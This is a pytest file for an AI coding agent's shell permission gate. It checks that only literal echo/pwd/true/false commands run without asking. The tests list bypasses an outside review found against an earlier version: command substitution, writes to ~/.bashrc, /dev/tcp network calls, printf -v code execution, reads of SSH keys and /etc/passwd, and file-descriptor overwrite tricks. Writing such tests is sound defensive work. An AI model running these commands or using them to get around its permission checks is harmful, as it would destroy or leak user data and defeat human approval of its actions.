"""Step 7b of the gate: a Bash command made only of echo / pwd / true / false with literal arguments runs unasked, as
Claude Code runs `echo` — and nothing else rides along: a redirection, an expansion, a glob, a brace, another command,
`printf` (whose `-v` into an integer variable runs code) still asks (no `ask` callback here: asking means refusing).
The "still asks" list holds the outside review's bypasses of the first version of this step, each of which ran code,
wrote a file, reached the network or listed a secret folder. Also the write through a descriptor's name they found
(`5<f >/dev/fd/5` reopens f for writing), which no allow rule may cover either."""

from __future__ import annotations

from pathlib import Path

import pytest

from mini_claude.permissions import PermissionGate, PermissionMode, RuleSet
from mini_claude.tools.shell import BashTool


def _gate(tmp_path: Path) -> PermissionGate:
    return PermissionGate(PermissionMode.DEFAULT, RuleSet(), ask=None, cwd=tmp_path,
                          home=tmp_path / "home")


@pytest.mark.parametrize("command", [
    "echo 'Hello from bash!'", "echo hi && pwd", "true; false", 'echo "two words" and:more/text', "echo a || echo b",
])
async def test_printing_commands_run_unasked(tmp_path: Path, command: str) -> None:
    decision = await _gate(tmp_path).check(BashTool(), {"command": command})
    assert decision.allowed and decision.reason == "only prints (echo, printf, pwd)"


@pytest.mark.parametrize("command", [
    "echo hi > out.txt", "echo hi >> ~/.bashrc", "echo $(rm -rf x)", "echo `id`", "echo hi; rm x", "echo hi | sh",
    "/bin/echo hi", "'echo' hi", "e\\cho hi", "echo hi | tee f", "printf x > /dev/tcp/1.2.3.4/80", "ech$x hi",
    "eval echo hi", "echo hi &> f", "echo <(cat /etc/passwd)", "echo ${x:=$(id)}", "pwd > f", "cat f",
    "printf -v RANDOM 'a[$(id)]'", "printf {-v,'a[$(touch pwned)]'} x", "printf '%s' x",
    "echo 'echo PWNED' 5<~/.bashrc >>/dev/fd/5", "echo overwritten 5<~/.ssh/id_rsa >/dev/fd/5",
    "echo x 1<~/.profile >/dev/stdout", "printf 'GET /' 4</dev/tcp/${h:-127.0.0.1}/18099 >&4",
    "echo ~/.ssh/*", "echo ~/.* /etc/ssh/*key*", "echo ${x:-~/.ssh/*}", "echo {1..1000000000}", "echo $HOME",
    "true(){ true; }; true", "echo < ~/.ssh/id_rsa", "echo a | echo b",
])
async def test_anything_more_still_asks(tmp_path: Path, command: str) -> None:
    decision = await _gate(tmp_path).check(BashTool(), {"command": command})
    assert not decision.allowed


@pytest.mark.parametrize("command", [
    "echo x 5<.claude/settings.json >/dev/fd/5", "echo x >/dev/fd/5 5<.git/config", "exec 5<.mcp.json; echo x >/dev/fd/5",
    "echo x 1<.envrc >/dev/stdout", "echo x 4<$T >&4",
])
async def test_no_allow_rule_covers_a_write_through_a_descriptor(tmp_path: Path, command: str) -> None:
    gate = PermissionGate(PermissionMode.DEFAULT, RuleSet().with_allow(["Bash(echo:*)", "Bash(exec:*)"]), ask=None,
                          cwd=tmp_path, home=tmp_path / "home")
    decision = await gate.check(BashTool(), {"command": command})
    assert not decision.allowed


async def test_everyday_descriptor_use_is_unchanged(tmp_path: Path) -> None:
    gate = PermissionGate(PermissionMode.DEFAULT, RuleSet().with_allow(["Bash(echo:*)", "Bash(sort:*)"]), ask=None,
                          cwd=tmp_path, home=tmp_path / "home")
    for command in ("echo hi >/dev/stderr", "echo hi 2>&1", "sort < notes.txt", "echo hi >/dev/null"):
        assert (await gate.check(BashTool(), {"command": command})).allowed, command
